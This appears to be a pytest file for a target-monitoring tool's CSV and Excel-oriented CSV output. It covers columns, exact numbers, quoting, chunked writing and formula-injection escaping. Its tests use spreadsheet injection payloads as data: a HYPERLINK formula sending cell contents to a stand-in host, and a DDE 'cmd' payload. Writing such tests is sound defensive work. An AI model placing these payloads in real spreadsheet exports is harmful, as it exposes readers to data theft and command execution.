"""The ``csv`` output format: columns, label columns, exact numbers, quoting, quiet, pieces;
``csv-excel``: the byte-order mark, formula-like text marked, numbers as they are; and the CLI
on the seed example, against the json format."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from targetwatch.cli import cli
from targetwatch.default_plugins.csv_output import (
    CHUNK,
    CsvExcelFormat,
    CsvFormat,
    decimal_text,
    label_columns,
)
from targetwatch.default_plugins.json_encoding import json_number
from targetwatch.engine import CheckResult
from targetwatch.errors import Problem
from targetwatch.model import Status, Verdict
from targetwatch.numbers import plain
from targetwatch.output import OutputOptions
from targetwatch.periods import Calendar
from targetwatch.plugins import Registry

CAL = Calendar("Asia/Shanghai")
AS_OF = CAL.moment("2023-10-16")
FIXED = ["rule", "kind", "indicator", "status", "value", "target", "margin", "period", "unit", "severity", "message", "silenced"]


def verdict(status: Status = Status.OK, **kw: Any) -> Verdict:
    fields: dict[str, Any] = {
        "rule": "rule.x", "title": "参与赛事活动", "kind": "threshold", "indicator": "sport.participants",
        "labels": (("district", "田家庵区"),), "status": status, "message": f"{status.value} message",
        "value": Decimal(24600), "target": Decimal(50000), "margin": Decimal(-25400), "period": CAL.parse("2023-H2"), "unit": "人次",
    }
    fields.update(kw)
    return Verdict(**fields)


def rows(*verdicts: Verdict, quiet: bool = False, problems: tuple[Problem, ...] = ()) -> list[dict[str, str]]:
    text = CsvFormat().render(CheckResult(AS_OF, verdicts, problems), OutputOptions(quiet=quiet))
    return list(csv.DictReader(io.StringIO(text, newline="")))


def header(*verdicts: Verdict) -> list[str]:
    text = CsvFormat().render(CheckResult(AS_OF, verdicts), OutputOptions())
    return next(csv.reader(io.StringIO(text, newline="")))


def test_columns_and_one_row_per_verdict() -> None:
    text = CsvFormat().render(CheckResult(AS_OF, (verdict(), verdict(Status.BREACH, silenced="until 2023-11-01: works"))), OutputOptions())
    assert text.splitlines()[0] == "rule,kind,indicator,district,status,value,target,margin,period,unit,severity,message,silenced"
    assert text.endswith("\r\n")
    ok, breach = list(csv.DictReader(io.StringIO(text, newline="")))
    assert ok == {
        "rule": "rule.x", "kind": "threshold", "indicator": "sport.participants", "district": "田家庵区", "status": "OK",
        "value": "24600", "target": "50000", "margin": "-25400", "period": "2023-H2", "unit": "人次", "severity": "critical",
        "message": "OK message", "silenced": "",
    }
    assert breach["status"] == "BREACH" and breach["silenced"] == "until 2023-11-01: works"


def test_label_columns_are_the_union_of_the_keys_sorted_and_missing_labels_are_blank() -> None:
    vs = (verdict(labels=(("district", "A"),)), verdict(labels=(("level", "县"), ("district", "B"))), verdict(labels=()))
    assert header(*vs) == ["rule", "kind", "indicator", "district", "level", *FIXED[3:]]
    assert [(r["district"], r["level"]) for r in rows(*vs)] == [("A", ""), ("B", "县"), ("", "")]
    assert header(verdict(labels=())) == FIXED


def test_a_label_named_like_a_column_is_prefixed() -> None:
    v = verdict(labels=(("status", "open"), ("value", "v"), ("label.value", "w"), ("zone", "z")))
    # Sorted by key: "label.value" keeps its name, so the label "value" is one more level in.
    assert header(v) == [*FIXED[:3], "label.value", "label.status", "label.label.value", "zone", *FIXED[3:]]
    (row,) = rows(v)
    assert row["status"] == "OK" and row["label.status"] == "open"
    assert row["value"] == "24600"
    assert (row["label.value"], row["label.label.value"], row["zone"]) == ("w", "v", "z")
    assert dict(label_columns([v]))["status"] == "label.status"


def test_label_columns_cover_all_verdicts_when_quiet() -> None:
    vs = (verdict(labels=(("district", "A"),)), verdict(Status.WARN, labels=(("level", "x"),)))
    (row,) = rows(*vs, quiet=True)
    assert row["status"] == "WARN" and row["district"] == "" and row["level"] == "x"


def test_numbers_are_exact_decimal_text() -> None:
    (row,) = rows(verdict(value=Decimal("0.048900000000"), target=Decimal("1E+3"), margin=Decimal("0.1000000000000000000000000001"), unit="%"))
    assert (row["value"], row["target"], row["margin"], row["unit"]) == ("0.0489", "1000", "0.1000000000000000000000000001", "%")
    (row,) = rows(verdict(value=None, target=None, margin=None, period=None, unit=None))
    assert (row["value"], row["target"], row["margin"], row["period"], row["unit"]) == ("", "", "", "", "")


@given(
    st.builds(
        lambda sign, digits, exponent: Decimal((sign, tuple(int(d) for d in str(digits)), exponent)),
        st.integers(0, 1), st.integers(0, 10**30), st.integers(-40, 40),
    )
    | st.decimals(allow_nan=False, allow_infinity=False)
    | st.floats(allow_nan=False, allow_infinity=False).map(Decimal)
)
def test_decimal_text_is_plain(value: Decimal) -> None:
    assert decimal_text(value) == plain(value)
    assert Decimal(decimal_text(value)) == value


@given(st.text(st.characters(blacklist_categories=["Cs"])) | st.sampled_from(['a, "b"\nc\r\nd\re', "田家庵区，达标", "=1+1"]))
def test_any_text_reads_back_as_written(message: str) -> None:
    (row,) = rows(verdict(message=message, labels=(("district", message),), silenced=message))
    assert row["message"] == row["district"] == row["silenced"] == message


def test_quiet_lists_what_is_not_ok_and_nothing_when_all_is_well() -> None:
    assert [r["status"] for r in rows(verdict(), verdict(Status.WARN), verdict(Status.ERROR), quiet=True)] == ["WARN", "ERROR"]
    assert CsvFormat().render(CheckResult(AS_OF, (verdict(),)), OutputOptions(quiet=True)) == ""
    assert CsvFormat().render(CheckResult(AS_OF, ()), OutputOptions(quiet=True)) == ""
    text = CsvFormat().render(CheckResult(AS_OF, (verdict(),), (Problem("boom"),)), OutputOptions(quiet=True))
    assert text.splitlines() == [",".join([*FIXED[:3], "district", *FIXED[3:]])]
    assert CsvFormat().render(CheckResult(AS_OF, ()), OutputOptions()).splitlines() == [",".join(FIXED)]


def written_pieces(fmt: CsvFormat, result: CheckResult) -> list[str]:
    """What ``fmt.write`` hands the stream, call by call."""
    pieces: list[str] = []

    class Recorder(io.StringIO):
        def write(self, s: str) -> int:
            pieces.append(s)
            return super().write(s)

    fmt.write(result, OutputOptions(), Recorder())
    return pieces


def test_rows_are_written_in_pieces() -> None:
    vs = tuple(verdict(labels=(("region", f"R{i:05}"),), value=Decimal(i)) for i in range(2 * CHUNK + 1))
    result = CheckResult(AS_OF, vs)
    pieces = written_pieces(CsvFormat(), result)
    assert "".join(pieces) == CsvFormat().render(result, OutputOptions())
    assert len(pieces) == 3
    read = list(csv.DictReader(io.StringIO("".join(pieces), newline="")))
    assert [r["value"] for r in read] == [str(i) for i in range(2 * CHUNK + 1)]
    assert read[-1]["region"] == f"R{2 * CHUNK:05}"


# -- csv-excel -------------------------------------------------------------------------------

BOM = "\ufeff"
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def excel(*verdicts: Verdict, quiet: bool = False, problems: tuple[Problem, ...] = ()) -> str:
    return CsvExcelFormat().render(CheckResult(AS_OF, verdicts, problems), OutputOptions(quiet=quiet))


def excel_rows(text: str) -> list[dict[str, str]]:
    """The rows as a program reads the file: bytes, decoded as UTF-8 with its byte-order mark."""
    with io.TextIOWrapper(io.BytesIO(text.encode("utf-8")), encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def test_csv_excel_is_registered_beside_csv() -> None:
    outputs = Registry(entry_points=False).outputs
    assert isinstance(outputs["csv-excel"], CsvExcelFormat) and type(outputs["csv"]) is CsvFormat
    assert outputs["csv-excel"].summary != outputs["csv"].summary


def test_csv_excel_begins_with_the_byte_order_mark_once_and_ends_lines_in_crlf() -> None:
    text = excel(verdict(), verdict(Status.BREACH))
    data = text.encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    assert text.count(BOM) == 1
    lines = text[1:].split("\r\n")
    assert lines[0] == "rule,kind,indicator,district,status,value,target,margin,period,unit,severity,message,silenced"
    assert len(lines) == 4 and lines[-1] == ""
    assert "\n" not in "".join(lines)
    # Nothing to mark: the csv text after the byte-order mark.
    assert text == BOM + CsvFormat().render(CheckResult(AS_OF, (verdict(), verdict(Status.BREACH))), OutputOptions())


def test_csv_excel_chinese_text_reads_back_as_written() -> None:
    v = verdict(labels=(("区县", "田家庵区"), ("level", "县级")), message="参与人次 24600，低于目标 50000（差 25400）", silenced="数据核查中")
    text = excel(v)
    (row,) = excel_rows(text)
    assert list(row)[0] == "rule"  # the byte-order mark is not part of the first column's name
    assert (row["区县"], row["level"], row["message"], row["unit"], row["silenced"]) == (
        "田家庵区", "县级", "参与人次 24600，低于目标 50000（差 25400）", "人次", "数据核查中",
    )


@pytest.mark.parametrize("first", FORMULA_STARTS)
def test_csv_excel_marks_formula_like_labels_and_messages_as_text(first: str) -> None:
    dangerous = first + "HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"
    v = verdict(labels=(("district", dangerous), ("zone", "fine")), message=dangerous, silenced=dangerous)
    (row,) = excel_rows(excel(v))
    assert row["district"] == row["message"] == row["silenced"] == "'" + dangerous
    assert row["zone"] == "fine"
    (plain_row,) = rows(v)  # csv writes the data as is
    assert plain_row["district"] == plain_row["message"] == plain_row["silenced"] == dangerous


def test_csv_excel_marks_every_text_column_and_the_label_column_names() -> None:
    v = verdict(
        rule="-rule", kind="+kind", indicator="@indicator", labels=(("=key", "=cmd|' /C calc'!A0"),),
        status=Status.WARN, unit="-%", severity="=severity", period=None,
    )
    text = excel(v)
    head, row = next(csv.reader(io.StringIO(text[1:], newline=""))), excel_rows(text)[0]
    assert head == ["rule", "kind", "indicator", "'=key", *FIXED[3:]]
    assert (row["rule"], row["kind"], row["indicator"], row["'=key"], row["unit"], row["severity"]) == (
        "'-rule", "'+kind", "'@indicator", "'=cmd|' /C calc'!A0", "'-%", "'=severity",
    )
    assert (row["status"], row["period"]) == ("WARN", "")


def test_csv_excel_leaves_numbers_negative_ones_included_as_they_are() -> None:
    v = verdict(value=Decimal("-0.0489"), target=Decimal("-1E+3"), margin=Decimal(-25400), message="-25400 below")
    (row,) = excel_rows(excel(v))
    assert (row["value"], row["target"], row["margin"]) == ("-0.0489", "-1000", "-25400")
    assert row["message"] == "'-25400 below"
    (row,) = excel_rows(excel(verdict(value=None, target=None, margin=None, labels=(("district", ""),))))
    assert (row["value"], row["target"], row["margin"], row["district"]) == ("", "", "", "")


def test_csv_excel_leaves_text_beginning_otherwise_as_it_is() -> None:
    for text in ("'=already text", " =1+1", "田=1", "a-b", "", "１＋１"):
        (row,) = excel_rows(excel(verdict(message=text, labels=(("district", text),))))
        assert row["message"] == row["district"] == text


def test_csv_excel_quiet_writes_nothing_when_all_is_well_as_csv_does() -> None:
    assert excel(verdict(), quiet=True) == "" == CsvFormat().render(CheckResult(AS_OF, (verdict(),)), OutputOptions(quiet=True))
    assert excel(quiet=True) == ""
    stream = io.StringIO()
    CsvExcelFormat().write(CheckResult(AS_OF, (verdict(),)), OutputOptions(quiet=True), stream)
    assert stream.getvalue() == ""
    assert excel(verdict(), quiet=True, problems=(Problem("boom"),)) == BOM + ",".join([*FIXED[:3], "district", *FIXED[3:]]) + "\r\n"
    assert [r["status"] for r in excel_rows(excel(verdict(), verdict(Status.BREACH, message="=x"), quiet=True))] == ["BREACH"]
    assert excel() == BOM + ",".join(FIXED) + "\r\n"


def test_csv_excel_is_written_in_pieces_the_first_with_the_byte_order_mark() -> None:
    vs = tuple(verdict(labels=(("region", f"-R{i:05}"),), value=Decimal(-i)) for i in range(2 * CHUNK + 1))
    result = CheckResult(AS_OF, vs)
    pieces = written_pieces(CsvExcelFormat(), result)
    assert len(pieces) == 3 and pieces[0].startswith(BOM + "rule,") and BOM not in "".join(pieces)[1:]
    assert "".join(pieces) == CsvExcelFormat().render(result, OutputOptions())
    read = excel_rows("".join(pieces))
    assert [(r["region"], r["value"]) for r in read] == [(f"'-R{i:05}", str(-i)) for i in range(2 * CHUNK + 1)]


@given(st.text(st.characters(blacklist_categories=["Cs"])) | st.sampled_from(FORMULA_STARTS).map(lambda c: c + "1+1"))
def test_csv_excel_text_reads_back_as_written_less_the_apostrophe_it_added(text: str) -> None:
    (row,) = excel_rows(excel(verdict(message=text, labels=(("district", text),), silenced=text)))
    marked = text[:1] in FORMULA_STARTS  # the writer adds an apostrophe exactly then
    for cell in (row["message"], row["district"], row["silenced"]):
        assert (cell.removeprefix("'") if marked else cell) == text and cell.startswith("'") >= marked


# -- the CLI on the seed example --------------------------------------------------------------


@pytest.fixture
def in_seed(monkeypatch: pytest.MonkeyPatch, seed_root: Path) -> None:
    monkeypatch.chdir(seed_root)
    monkeypatch.setenv("TARGETWATCH_PLUGINS", "")
    monkeypatch.delenv("TARGETWATCH_CONFIG", raising=False)


def as_json_number(text: str) -> int | float | None:
    return json_number(Decimal(text)) if text else None


@pytest.mark.usefixtures("in_seed")
@pytest.mark.parametrize("quiet", [[], ["--quiet"]])
def test_cli_csv_agrees_with_json_on_the_seed_example(quiet: list[str]) -> None:
    runner = CliRunner()
    out = runner.invoke(cli, ["check", "--dry-run", "--format", "csv", *quiet])
    js = runner.invoke(cli, ["check", "--dry-run", "--format", "json", *quiet])
    assert out.exit_code == js.exit_code == 2, out.output
    table = list(csv.DictReader(io.StringIO(out.stdout, newline="")))
    doc = json.loads(js.stdout)
    assert len(table) == len(doc["verdicts"]) > 0
    for row, v in zip(table, doc["verdicts"], strict=True):
        for key in ("rule", "kind", "indicator", "status", "period", "unit", "severity", "message", "silenced"):
            assert row[key] == (v[key] or ""), key
        for key in ("value", "target", "margin"):
            assert as_json_number(row[key]) == v[key], key
        assert {k: row[k] for k in v["labels"]} == v["labels"]
    assert "田家庵区" in out.stdout
    if quiet:
        assert all(row["status"] != "OK" for row in table)


@pytest.mark.usefixtures("in_seed")
@pytest.mark.parametrize("quiet", [[], ["--quiet"]])
def test_cli_csv_excel_is_csv_with_the_byte_order_mark_on_the_seed_example(quiet: list[str]) -> None:
    runner = CliRunner()
    out = runner.invoke(cli, ["check", "--dry-run", "--format", "csv-excel", *quiet])
    plain_csv = runner.invoke(cli, ["check", "--dry-run", "--format", "csv", *quiet])
    assert out.exit_code == plain_csv.exit_code == 2, out.output
    assert out.stdout_bytes.startswith(b"\xef\xbb\xbf") and b"\xef\xbb\xbf" not in plain_csv.stdout_bytes
    table = list(csv.DictReader(io.StringIO(out.stdout_bytes.decode("utf-8-sig"), newline="")))
    expected = list(csv.DictReader(io.StringIO(plain_csv.stdout, newline="")))
    assert len(table) == len(expected) > 0
    for row, want in zip(table, expected, strict=True):
        assert row == {k: "'" + v if k not in ("value", "target", "margin") and v[:1] in FORMULA_STARTS else v for k, v in want.items()}
